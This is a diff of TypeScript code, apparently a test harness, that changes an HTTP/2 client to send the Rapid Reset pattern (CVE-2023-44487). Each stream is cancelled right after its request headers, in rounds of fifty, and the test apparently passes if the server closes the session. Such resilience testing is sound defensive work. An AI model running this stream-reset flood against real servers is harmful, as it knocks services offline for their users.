@@ -27,22 +27,20 @@ session.on('close', () => done(true));
 setTimeout(() => done(false), 20_000);
 // In rounds of 50 (under the server's concurrency limit), each reset once its HEADERS have
 // left: a client's HTTP/2 stack sends nothing for a stream reset before it was sent.
+// The classic pattern (CVE-2023-44487): each stream's HEADERS is followed at once by its
+// RST_STREAM, before any answer could come back, fifty at a time.
 const round = () => {
-  const streams: http2.ClientHttp2Stream[] = [];
   for (let i = 0; i < 50 && opened < spec.count; i++) {
     if (session.closed || session.destroyed) return;
     try {
       const stream = session.request({ ':path': '/notes?limit=1' });
       stream.on('error', () => {});
-      streams.push(stream);
+      stream.close(constants.NGHTTP2_CANCEL);
       opened++;
     } catch {
       return;
     }
   }
-  setTimeout(() => {
-    for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
-    if (opened < spec.count) round();
-  }, 1);
+  if (opened < spec.count) setTimeout(round, 1);
 };
 session.once('remoteSettings', round);
